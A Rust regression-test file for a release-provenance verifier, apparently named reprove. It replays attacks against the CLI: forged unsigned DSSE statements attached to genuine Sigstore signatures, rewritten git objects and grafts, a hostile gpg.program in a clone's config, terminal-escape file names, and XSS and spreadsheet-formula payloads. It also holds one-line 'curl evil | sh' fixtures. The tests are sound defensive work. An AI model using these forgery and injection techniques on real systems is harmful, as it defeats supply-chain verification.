//! The attacks that bent or forged a verdict (issue 11), each replayed against the real CLI:
//! a genuine Sigstore message signature carrying a forged, unsigned DSSE statement; hostile
//! names in artifact folders; odd artifact folders; a rollback presented as a change set; a
//! tree git itself calls invalid; and markup or formulas in SOUP names.

use std::path::{Path, PathBuf};
use std::process::Command;

use base64::Engine as _;
use serde_json::{Value, json};
use sha2::Digest as _;

use crate::support::{Fixture, conformance_artifact, conformance_dir};

const IDENTITY: &str = "https://github.com/sigstore-conformance/extremely-dangerous-public-oidc-beacon/.github/workflows/extremely-dangerous-oidc-beacon.yml@refs/heads/main";
const ISSUER: &str = "https://token.actions.githubusercontent.com";
const IMAGE: &str = "registry.example/build@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

fn sha256_hex(data: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(data))
}

/// `genuine` (a message-signature bundle whose signature really verifies) with an added,
/// unsigned DSSE envelope carrying `statement`.
fn confused(genuine: &Value, statement: &Value) -> Vec<u8> {
    let mut b = genuine.clone();
    b["dsseEnvelope"] = json!({
        "payload": base64::engine::general_purpose::STANDARD.encode(serde_json::to_vec(statement).unwrap()),
        "payloadType": "application/vnd.in-toto+json",
        "signatures": [{"sig": "AAAA", "keyid": ""}],
    });
    serde_json::to_vec_pretty(&b).unwrap()
}

fn subjects(artifacts: &[(&str, &[u8])]) -> Value {
    Value::Array(
        artifacts
            .iter()
            .map(|(n, d)| json!({"name": n, "digest": {"sha256": sha256_hex(d)}}))
            .collect(),
    )
}

/// A forged evidence folder for `v1.0.0` of the fixture, every bundle a genuine message
/// signature of `a.txt` plus a forged statement; self-consistent, so that a verifier reading
/// the unsigned statements would find nothing wrong. Subjects: `a.txt` (first, so the keyless
/// verifier is handed its digest) and `malware.sh`.
fn forged_folder(f: &Fixture, genuine: &Value, a_txt: &[u8]) -> (PathBuf, PathBuf) {
    let commit = f.git(&["rev-parse", "v1.0.0^{commit}"]);
    let epoch: i64 = f
        .git(&["log", "-1", "--format=%ct", "v1.0.0"])
        .parse()
        .unwrap();
    let artifacts: [(&str, &[u8]); 2] = [("a.txt", a_txt), ("malware.sh", b"curl evil | sh\n")];
    let dist = f.path("dist");
    std::fs::create_dir_all(&dist).unwrap();
    for (n, d) in &artifacts {
        std::fs::write(dist.join(n), d).unwrap();
    }
    let subj = subjects(&artifacts);
    let baseline = json!({
        "_type": "https://in-toto.io/Statement/v1",
        "subject": subj,
        "predicateType": reprove_baseline::BASELINE_PREDICATE_TYPE,
        "predicate": {
            "project": {"name": "tiny"},
            "release": {"tag": "v1.0.0", "commit": commit, "sourceDateEpoch": epoch},
            "build": {"image": IMAGE, "command": ["make"], "artifacts": ["dist/*"]},
            "policy": {"result": "pass"},
            "findings": [],
            "changes": {"commits": []},
        }
    });
    let env: serde_json::Map<String, Value> = [
        ("HOME", "/tmp".to_owned()),
        ("LANG", "C.UTF-8".to_owned()),
        ("LC_ALL", "C.UTF-8".to_owned()),
        ("SOURCE_DATE_EPOCH", epoch.to_string()),
        ("TZ", "UTC".to_owned()),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), Value::String(v)))
    .collect();
    let provenance = json!({
        "_type": "https://in-toto.io/Statement/v1",
        "subject": subj,
        "predicateType": "https://slsa.dev/provenance/v1",
        "predicate": {
            "buildDefinition": {
                "buildType": "https://reprove.dev/container-build/v1",
                "externalParameters": {
                    "source": {"tag": "v1.0.0", "repository": null},
                    "recipe": {"image": IMAGE, "command": ["make"], "artifacts": ["dist/*"], "env": {}, "workdir": null, "timeout": 3600, "user": null}
                },
                "internalParameters": {
                    "network": "none", "readOnlyRootFilesystem": true, "buildPath": "/build/src",
                    "hostname": "reprove", "umask": "022", "sourceDateEpoch": epoch, "environment": env
                },
                "resolvedDependencies": [{"name": "source", "digest": {"gitCommit": commit}}]
            },
            "runDetails": {"builder": {"id": "https://reprove.dev/rebuilder/v1"}}
        }
    });
    let ev = f.repo().join("evidence/v1.0.0");
    std::fs::create_dir_all(&ev).unwrap();
    let b = confused(genuine, &baseline);
    let p = confused(genuine, &provenance);
    std::fs::write(ev.join("baseline.sigstore.json"), &b).unwrap();
    std::fs::write(ev.join("provenance.sigstore.json"), &p).unwrap();
    let mut files: Vec<(&str, &[u8])> = vec![("a.txt", a_txt)];
    files.push(("baseline.sigstore.json", &b));
    files.push(("provenance.sigstore.json", &p));
    let index = json!({
        "_type": "https://in-toto.io/Statement/v1",
        "subject": subjects(&files),
        "predicateType": "https://reprove.dev/evidence-index/v0.1",
        "predicate": {"tag": "v1.0.0", "commit": commit, "outcome": "released", "failures": []}
    });
    std::fs::write(ev.join("index.sigstore.json"), confused(genuine, &index)).unwrap();
    // The index's first subject is `a.txt` (the keyless verifier is handed its digest), so the
    // forged folder holds it too.
    std::fs::write(ev.join("a.txt"), a_txt).unwrap();
    (ev, dist)
}

fn run(f: &Fixture, args: &[&str]) -> (i32, String) {
    let out = f.reprove(args);
    (
        out.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

/// Regression (issue 11, critical): an evidence folder of genuine message signatures with
/// forged, unsigned DSSE statements ended `verdict: verified`, keyless and with `--key`.
#[test]
fn a_genuine_signature_never_vouches_for_an_unsigned_statement() {
    let Some(conf) = conformance_dir() else {
        return;
    };
    let cases = conf.join("bundle-verify");
    for (case, trust) in [
        ("happy-path-v0.3", "identity"),
        ("managed-key-happy-path", "key"),
    ] {
        let dir = cases.join(case);
        let genuine: Value =
            serde_json::from_slice(&std::fs::read(dir.join("bundle.sigstore.json")).unwrap())
                .unwrap();
        let artifact = conformance_artifact(&conf, &dir);
        let a_txt = std::fs::read(&artifact).unwrap();
        let f = Fixture::new();
        f.write("README", "x\n");
        f.commit("one\n\nReviewed-by: R <r@example.com>");
        f.tag("v1.0.0");
        let (ev, dist) = forged_folder(&f, &genuine, &a_txt);
        let mut trust_args: Vec<String> = match trust {
            "key" => vec!["--key".into(), dir.join("key.pub").display().to_string()],
            _ => vec![
                "--certificate-identity".into(),
                IDENTITY.into(),
                "--certificate-oidc-issuer".into(),
                ISSUER.into(),
            ],
        };
        if dir.join("trusted_root.json").exists() {
            trust_args.push("--trusted-root".into());
            trust_args.push(dir.join("trusted_root.json").display().to_string());
        }
        let t: Vec<&str> = trust_args.iter().map(String::as_str).collect();

        // The genuine bundle alone verifies; with the envelope added it is a bad bundle.
        let key_or_id: Vec<&str> = t.clone();
        let mut args = vec!["verify-bundle", "--bundle"];
        let genuine_path = dir.join("bundle.sigstore.json");
        let gp = genuine_path.display().to_string();
        args.push(&gp);
        args.extend(&key_or_id);
        let ap = artifact.display().to_string();
        args.push(&ap);
        let (c, out) = run(&f, &args);
        assert_eq!(c, 0, "{case}: the genuine bundle verifies: {out}");
        let forged = ev.join("baseline.sigstore.json").display().to_string();
        let mut args = vec!["verify-bundle", "--bundle", &forged];
        args.extend(&key_or_id);
        args.push(&ap);
        let (c, out) = run(&f, &args);
        assert_eq!(c, 1, "{case}: {out}");
        assert!(out.contains("bad-bundle"), "{case}: {out}");

        // verify, in the clone, with the artifacts (among them malware.sh).
        let d = dist.display().to_string();
        let mut args = vec!["verify", "v1.0.0", "--artifacts", &d];
        args.extend(&t);
        let (c, out) = run(&f, &args);
        assert_eq!(c, 1, "{case}: {out}");
        assert!(out.contains("verdict: FAILED"), "{case}: {out}");
        assert!(out.contains("bad-bundle"), "{case}: {out}");

        // status, report and diff with the same trust; images check --baseline with the key.
        let mut args = vec!["status"];
        args.extend(&t);
        let (c, out) = run(&f, &args);
        assert_eq!(c, 1, "{case}: {out}");
        assert!(out.contains("v1.0.0  invalid"), "{case}: {out}");
        let report = f.path("report.md").display().to_string();
        let mut args = vec!["report", "v1.0.0", "--format", "markdown", "-o", &report];
        args.extend(&t);
        let (c, out) = run(&f, &args);
        assert_eq!(c, 1, "{case}: {out}");
        if trust == "key" {
            let key = dir.join("key.pub").display().to_string();
            let (c, out) = run(&f, &["diff", &forged, &forged, "--key", &key]);
            assert_eq!(c, 2, "{case}: {out}");
            assert!(out.contains("exactly one"), "{case}: {out}");
            let (c, out) = run(
                &f,
                &["images", "check", "--baseline", &forged, "--key", &key],
            );
            assert_eq!(c, 2, "{case}: {out}");
            assert!(out.contains("exactly one"), "{case}: {out}");
        }
    }
}

/// A name from the artifacts folder or the evidence never reaches the terminal raw.
#[test]
fn hostile_names_cannot_rewrite_the_terminal() {
    let Some(r) = crate::release::Release::new(crate::release::BUILD, true) else {
        return;
    };
    let dist = r.publish("v1.0.0", "dist");
    r.expect(
        &[
            "release",
            "v1.0.0",
            "--artifacts",
            &dist,
            "--key",
            &r.p("k.key"),
        ],
        0,
    );
    // A file whose name would erase the FAIL line and print a fake pass.
    let evil = "x\u{1b}[1A\u{1b}[2K\r  pass     artifact-digests  all good\u{202e}";
    std::fs::write(Path::new(&dist).join(evil), b"x").unwrap();
    for args in [
        vec![
            "verify",
            "v1.0.0",
            "--artifacts",
            &dist,
            "--key",
            &r.p("k.pub"),
        ],
        vec!["rebuild", "v1.0.0", "--artifacts", &dist],
    ] {
        let (c, out, err) = r.run(&args);
        assert_eq!(c, 1, "{args:?}: {out}{err}");
        for text in [&out, &err] {
            assert!(
                !text.contains('\u{1b}') && !text.contains('\r') && !text.contains('\u{202e}'),
                "{args:?} printed a control character: {text:?}"
            );
        }
        assert!(
            out.contains("\\u{1b}[1A"),
            "{args:?}: the name is shown escaped: {out}"
        );
    }
}

/// `release` and `rebuild` refuse an artifacts folder that is empty, missing, or holds
/// anything but regular files — before building, writing nothing.
#[test]
fn odd_artifact_folders_are_refused_before_building() {
    let Some(r) = crate::release::Release::new(crate::release::BUILD, true) else {
        return;
    };
    let empty = r.p("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let with_link = r.p("linked");
    std::fs::create_dir_all(&with_link).unwrap();
    std::fs::write(Path::new(&with_link).join("a"), b"a").unwrap();
    std::os::unix::fs::symlink("/etc/passwd", Path::new(&with_link).join("passwd")).unwrap();
    let missing = r.p("missing");
    for (dir, why) in [
        (empty.as_str(), "holds no files"),
        (missing.as_str(), "No such file"),
        (with_link.as_str(), "is a symlink"),
    ] {
        let (c, out, err) = r.run(&[
            "release",
            "v1.0.0",
            "--artifacts",
            dir,
            "--key",
            &r.p("k.key"),
        ]);
        assert_eq!(c, 2, "{dir}: {out}{err}");
        assert!(err.contains(why), "{dir}: {err}");
        assert!(!r.evidence("v1.0.0").exists(), "nothing is written");
        let leftovers: Vec<_> = std::fs::read_dir(r.f.repo().join("evidence"))
            .map(|d| d.flatten().map(|e| e.file_name()).collect())
            .unwrap_or_default();
        assert!(leftovers.is_empty(), "{leftovers:?}");
        let (c, _, err) = r.run(&["rebuild", "v1.0.0", "--artifacts", dir]);
        assert_eq!(c, 2, "{dir}: {err}");
        assert!(!err.contains("building"), "refused before building: {err}");
    }
}

/// `diff OLD NEW` with NEW older than OLD says so and fails, instead of a clean change set.
#[test]
fn a_rollback_is_not_a_clean_change_set() {
    let f = Fixture::new();
    f.write("a.txt", "1\n");
    f.commit("one\n\nReviewed-by: R <r@example.com>");
    f.tag("v1.0.0");
    f.write("a.txt", "2\n");
    f.commit("two\n\nReviewed-by: R <r@example.com>");
    f.tag("v1.1.0");
    let (c, out) = run(&f, &["diff", "v1.1.0", "v1.0.0"]);
    assert_eq!(c, 1, "{out}");
    assert!(out.contains("rollback: `v1.0.0`"), "{out}");
    let (c, out) = run(&f, &["diff", "v1.0.0", "v1.1.0"]);
    assert_eq!(c, 0, "{out}");
    assert!(!out.contains("rollback"), "{out}");
}

/// A tree `git fsck` refuses is a baseline finding, not a silent manifest.
#[test]
fn an_invalid_tree_is_a_baseline_finding() {
    let f = Fixture::new();
    let blob = f.git(&["hash-object", "-w", "--stdin"]);
    let mut raw = Vec::new();
    for _ in 0..2 {
        raw.extend_from_slice(b"100644 dup\0");
        raw.extend_from_slice(&hex::decode(&blob).unwrap());
    }
    std::fs::write(f.path("tree.raw"), &raw).unwrap();
    let tree = f.git(&[
        "hash-object",
        "-t",
        "tree",
        "--literally",
        "-w",
        f.path("tree.raw").to_str().unwrap(),
    ]);
    let commit = f.git(&["commit-tree", &tree, "-m", "dup"]);
    f.git(&["tag", "v1.0.0", &commit]);
    let v = f.json(&["baseline", "v1.0.0", "--format", "json"], 0);
    let codes: Vec<&str> = v["predicate"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["code"].as_str().unwrap())
        .collect();
    assert!(codes.contains(&"invalid-tree"), "{codes:?}");
}

/// SOUP names and file names with markup or spreadsheet formulas are inert in every output.
#[test]
fn markup_and_formulas_are_inert() {
    let f = Fixture::new();
    f.write(
        "package-lock.json",
        r#"{"name":"x","lockfileVersion":3,"packages":{"":{"dependencies":{"=HYPERLINK(\"http://e.example\")":"1.0.0","<img src=x onerror=alert(1)>":"1.0.0"}},"node_modules/=HYPERLINK(\"http://e.example\")":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-AAAA"},"node_modules/<img src=x onerror=alert(1)>":{"version":"1.0.0","resolved":"https://registry.npmjs.org/b/-/b-1.0.0.tgz","integrity":"sha512-AAAA"}}}"#,
    );
    f.write("[click](http://e.example).md", "x\n");
    f.commit("one\n\nReviewed-by: R <r@example.com>");
    f.tag("v1.0.0");
    let csv = f.ok(&["soup", "v1.0.0", "--format", "csv"], 0);
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    let md = f.ok(&["soup", "v1.0.0", "--format", "markdown"], 0);
    assert!(!md.contains("<img"), "{md}");
    let bmd = f.ok(&["baseline", "v1.0.0", "--format", "markdown"], 0);
    assert!(!bmd.contains("[click](http"), "{bmd}");
    assert!(bmd.contains("\\[click\\](http"), "{bmd}");
}

/// Regression (review of issue 11): the clone's own config chose the program git runs to
/// check a tag's signature, so `verify`, `diff` and `report` ran it as the auditor.
#[test]
fn a_clones_config_runs_no_program_of_its_choosing() {
    let f = Fixture::new();
    f.write("a.txt", "1\n");
    f.commit("one\n\nReviewed-by: R <r@example.com>");
    // An annotated tag that looks signed, so git asks its gpg program.
    f.git(&[
        "tag",
        "-a",
        "v1.0.0",
        "-m",
        "release\n-----BEGIN PGP SIGNATURE-----\nAAAA\n-----END PGP SIGNATURE-----\n",
    ]);
    let marker = f.path("pwned");
    let evil = f.path("evil.sh");
    std::fs::write(
        &evil,
        format!("#!/bin/sh\ntouch {}\nexit 1\n", marker.display()),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
    for key in ["gpg.program", "gpg.ssh.program", "gpg.x509.program"] {
        f.git(&["config", key, evil.to_str().unwrap()]);
    }
    f.git(&["config", "log.showSignature", "true"]);
    let (c, out) = run(&f, &["baseline", "v1.0.0", "--format", "json"]);
    assert_eq!(c, 0, "{out}");
    let (_, out) = run(&f, &["diff", "v1.0.0", "v1.0.0"]);
    assert!(!marker.exists(), "the clone's gpg.program ran: {out}");
}

/// Regression (review of issue 11): a repository git refuses to read made `verify` skip the
/// tag check and end `verified`.
#[test]
fn a_repository_git_refuses_is_an_error_not_a_skipped_check() {
    let f = Fixture::new();
    f.write("a.txt", "1\n");
    f.commit("one\n\nReviewed-by: R <r@example.com>");
    f.tag("v1.0.0");
    f.git(&["config", "core.repositoryformatversion", "1"]);
    f.git(&["config", "extensions.reproveBogus", "true"]);
    let ev = f.path("ev").display().to_string();
    let out = f.reprove(&[
        "verify",
        "v1.0.0",
        "--evidence",
        &ev,
        "--no-artifacts",
        "--key",
        "x.pub",
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("git refuses to read"), "{err}");
}

/// Regression (review of issue 11): `diff --key` with tags used baselines assembled from the
/// clone, unsigned, without a word.
#[test]
fn diff_with_a_key_takes_tags_only_as_their_signed_baselines() {
    let f = Fixture::new();
    f.write("a.txt", "1\n");
    f.commit("one\n\nReviewed-by: R <r@example.com>");
    f.tag("v1.0.0");
    f.write("a.txt", "2\n");
    f.commit("two\n\nReviewed-by: R <r@example.com>");
    f.tag("v1.1.0");
    assert_eq!(
        f.reprove(&[
            "key",
            "generate",
            "--no-password",
            "--output",
            f.path("k").to_str().unwrap()
        ])
        .status
        .code(),
        Some(0)
    );
    let key = f.path("k.pub").display().to_string();
    let out = f.reprove(&["diff", "v1.0.0", "v1.1.0", "--key", &key]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("only signed baselines are accepted"), "{err}");
}

/// A repository with `v1.0.0`, an unreviewed commit, then reviewed `v1.1.0` and `v1.2.0`,
/// under a policy that requires authorization. Returns the unreviewed commit's id.
fn history_with_an_unreviewed_commit(f: &Fixture) -> String {
    f.write("reprove.toml", "[changes]\nrequire-authorization = true\n");
    f.write("a.txt", "1\n");
    f.commit("one\n\nReviewed-by: R <r@example.com>");
    f.tag("v1.0.0");
    f.write("a.txt", "sneaky\n");
    let x = f.commit("sneaky change");
    f.write("a.txt", "2\n");
    f.commit("two\n\nReviewed-by: R <r@example.com>");
    f.tag("v1.1.0");
    f.write("a.txt", "3\n");
    f.commit("three\n\nReviewed-by: R <r@example.com>");
    f.tag("v1.2.0");
    x
}

/// Regression (review of issue 11): `.git/info/grafts` (or a hand-edited commit-graph) made
/// git skip the unreviewed commit, so `diff` and `baseline` called the range authorized.
#[test]
fn grafts_cannot_hide_a_commit() {
    let f = Fixture::new();
    let x = history_with_an_unreviewed_commit(&f);
    let v11 = f.git(&["rev-parse", "v1.1.0^{commit}"]);
    let v10 = f.git(&["rev-parse", "v1.0.0^{commit}"]);
    std::fs::write(f.repo().join(".git/info/grafts"), format!("{v11} {v10}\n")).unwrap();
    let (c, out) = run(&f, &["diff", "v1.0.0", "v1.1.0"]);
    assert_eq!(c, 1, "{out}");
    assert!(
        out.contains(&x[..12]) && out.contains("UNAUTHORIZED"),
        "{out}"
    );
    let v = f.json(&["baseline", "v1.1.0", "--format", "json"], 1);
    assert_eq!(
        v["predicate"]["changes"]["commits"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
}

/// Regression (review of issue 11): in a shallow clone, commits traced afresh by `diff` were
/// called complete.
#[test]
fn a_shallow_clone_cannot_pass_diff() {
    let f = Fixture::new();
    history_with_an_unreviewed_commit(&f);
    let v11 = f.git(&["rev-parse", "v1.1.0^{commit}"]);
    std::fs::write(f.repo().join(".git/shallow"), format!("{v11}\n")).unwrap();
    let (c, out) = run(&f, &["diff", "v1.0.0", "v1.2.0"]);
    assert_eq!(c, 2, "{out}");
    assert!(out.contains("incomplete-history"), "{out}");
}

/// Regression (review of issue 11): a `.git` file naming a missing folder counted as "no
/// repository", and the tag check was skipped.
#[test]
fn a_dangling_gitfile_is_an_error() {
    let f = Fixture::new();
    let dir = f.path("work");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join(".git"), "gitdir: /nonexistent/repo\n").unwrap();
    let out = f.reprove_in(
        &dir,
        &[
            "verify",
            "v1.0.0",
            "--evidence",
            ".",
            "--no-artifacts",
            "--key",
            "x.pub",
        ],
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("git refuses to read"), "{err}");
}

/// Makes the fixture's object store serve `content` (an object of `kind`) under `victim`'s
/// id: the loose file of a literally written object copied over the victim's, as anyone with
/// write access to a clone (or to a folder `objects/info/alternates` names) could. git's
/// plumbing (`rev-list`, `cat-file --batch`, `log`) does not notice.
fn rewrite_object(f: &Fixture, victim: &str, kind: &str, content: &[u8]) {
    let file = f.path("forged-object");
    std::fs::write(&file, content).unwrap();
    let forged = f.git(&[
        "hash-object",
        "-t",
        kind,
        "-w",
        "--literally",
        file.to_str().unwrap(),
    ]);
    let objects = f.repo().join(".git/objects");
    let target = objects.join(&victim[..2]).join(&victim[2..]);
    std::fs::remove_file(&target).unwrap();
    std::fs::copy(objects.join(&forged[..2]).join(&forged[2..]), &target).unwrap();
}

/// Regression (fourth review of issue 11): git does not re-hash the objects it walks, so an
/// unreviewed commit rewritten in place with a review trailer (same id) passed the change
/// policy, and a release commit whose parent line skipped it hid it from the trace.
#[test]
fn objects_rewritten_behind_their_ids_are_refused() {
    let f = Fixture::new();
    let x = history_with_an_unreviewed_commit(&f);
    let (c, out) = run(&f, &["baseline", "v1.1.0"]);
    assert_eq!(c, 1, "the genuine history fails the policy: {out}");

    let raw = f.git(&["cat-file", "commit", &x]);
    rewrite_object(
        &f,
        &x,
        "commit",
        format!("{raw}\n\nReviewed-by: R <r@example.com>\n").as_bytes(),
    );
    // git's own walk now calls the commit reviewed.
    assert!(
        f.git(&["log", "-1", "--format=%B", &x])
            .contains("Reviewed-by")
    );
    for args in [
        &["baseline", "v1.1.0"][..],
        &["diff", "v1.0.0", "v1.1.0"],
        &["diff", "v1.0.0", "v1.2.0"],
    ] {
        let (c, out) = run(&f, args);
        assert_eq!(c, 2, "{args:?}: {out}");
        assert!(out.contains("does not hash to its id"), "{args:?}: {out}");
        assert!(!out.contains("authorized"), "{args:?}: {out}");
    }

    // The same with the release commit's parent line pointing past the unreviewed commit.
    let f = Fixture::new();
    let x = history_with_an_unreviewed_commit(&f);
    let v10 = f.git(&["rev-parse", "v1.0.0^{commit}"]);
    let v11 = f.git(&["rev-parse", "v1.1.0^{commit}"]);
    let raw = f.git(&["cat-file", "commit", &v11]);
    rewrite_object(
        &f,
        &v11,
        "commit",
        format!("{}\n", raw.replace(&x, &v10)).as_bytes(),
    );
    // git's own walk from the next release no longer sees the unreviewed commit.
    assert!(
        !f.git(&["rev-list", "v1.2.0", &format!("^{v10}")])
            .contains(&x)
    );
    let (c, out) = run(&f, &["diff", "v1.0.0", "v1.2.0"]);
    assert_eq!(c, 2, "{out}");
    assert!(out.contains("does not hash to its id"), "{out}");

    // And a reviewed file's blob rewritten: the baseline and the source export refuse it.
    let f = Fixture::new();
    f.write("app.py", "print('reviewed')\n");
    f.commit("app\n\nReviewed-by: R <r@example.com>");
    f.tag("v1.0.0");
    let blob = f.git(&["rev-parse", "v1.0.0:app.py"]);
    rewrite_object(&f, &blob, "blob", b"print('evil')\n");
    assert_eq!(f.git(&["cat-file", "blob", &blob]), "print('evil')");
    let (c, out) = run(&f, &["baseline", "v1.0.0"]);
    assert_eq!(c, 2, "{out}");
    assert!(out.contains("does not hash to its id"), "{out}");
}

/// Regression (fourth review of issue 11): with `.git/shallow` cutting the history at OLD,
/// git could not see that NEW is OLD's ancestor and `diff` called a rollback clean (exit 0).
#[test]
fn a_shallow_cut_cannot_hide_a_rollback() {
    let f = Fixture::new();
    f.write("a.txt", "1\n");
    let older = f.commit("one\n\nReviewed-by: R <r@example.com>");
    f.write("a.txt", "2\n");
    let newer = f.commit("two\n\nReviewed-by: R <r@example.com>");
    f.tag("v2.0.0");
    // v2.1.0 names an older commit than v2.0.0: versions say forward, history says back.
    f.git(&["tag", "-a", "v2.1.0", "-m", "release v2.1.0", &older]);
    let (c, out) = run(&f, &["diff", "v2.0.0", "v2.1.0"]);
    assert_eq!(c, 1, "{out}");
    assert!(out.contains("rollback"), "{out}");
    std::fs::write(f.repo().join(".git/shallow"), format!("{newer}\n")).unwrap();
    let (c, out) = run(&f, &["diff", "v2.0.0", "v2.1.0"]);
    assert_eq!(c, 2, "{out}");
    assert!(out.contains("incomplete-history"), "{out}");
    // Forward in the same shallow clone is still known.
    let (c, out) = run(&f, &["diff", "v2.1.0", "v2.0.0"]);
    assert_ne!(c, 2, "{out}");
}

/// Regression (fourth review of issue 11): a FIFO named like an object made git, and so
/// reprove, block forever; a `.git` git does not recognise (no `HEAD`) counted as "no
/// repository", skipping the tag check.
#[test]
fn a_git_folder_that_would_hang_or_mislead_is_an_error() {
    let f = Fixture::new();
    f.write("a.txt", "1\n");
    f.commit("one");
    f.tag("v1.0.0");
    let fifo = f
        .repo()
        .join(".git/objects/ab/cdef0123456789abcdef0123456789abcdef01");
    std::fs::create_dir_all(fifo.parent().unwrap()).unwrap();
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let (c, out) = run(&f, &["baseline", "v1.0.0"]);
    assert_eq!(c, 2, "{out}");
    assert!(out.contains("FIFO"), "{out}");
    std::fs::remove_file(&fifo).unwrap();

    std::fs::remove_file(f.repo().join(".git/HEAD")).unwrap();
    let out = f.reprove(&[
        "verify",
        "v1.0.0",
        "--evidence",
        ".",
        "--no-artifacts",
        "--key",
        "x.pub",
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("not a repository git can read"), "{err}");
}

/// Regression (fifth review of issue 11): a commit with a second `tree` line after
/// `committer` passes `git fsck`; git checks out the first tree, reprove baselined and would
/// have built the second.
#[test]
fn a_commit_git_reads_one_way_is_not_read_another() {
    let f = Fixture::new();
    f.write("a.txt", "reviewed\n");
    let good = f.commit("good\n\nReviewed-by: R <r@example.com>");
    f.write("evil.sh", "curl | sh\n");
    let evil = f.commit("evil");
    let good_tree = f.git(&["rev-parse", &format!("{good}^{{tree}}")]);
    let evil_tree = f.git(&["rev-parse", &format!("{evil}^{{tree}}")]);
    let who = "R <r@example.com> 1700000000 +0000";
    let file = f.path("crafted-commit");
    std::fs::write(
        &file,
        format!(
            "tree {good_tree}\nparent {good}\nauthor {who}\ncommitter {who}\ntree {evil_tree}\n\nrelease\n\nReviewed-by: R <r@example.com>\n"
        ),
    )
    .unwrap();
    let c = f.git(&["hash-object", "-t", "commit", "-w", file.to_str().unwrap()]);
    f.git(&["tag", "-a", "v2.0.0", "-m", "release v2.0.0", &c]);
    assert_eq!(f.git(&["ls-tree", "--name-only", "v2.0.0"]), "a.txt");
    let (code, out) = run(&f, &["baseline", "v2.0.0"]);
    assert_eq!(code, 2, "{out}");
    assert!(out.contains("a second `tree` line"), "{out}");
    assert!(!out.contains("evil.sh"), "{out}");
}
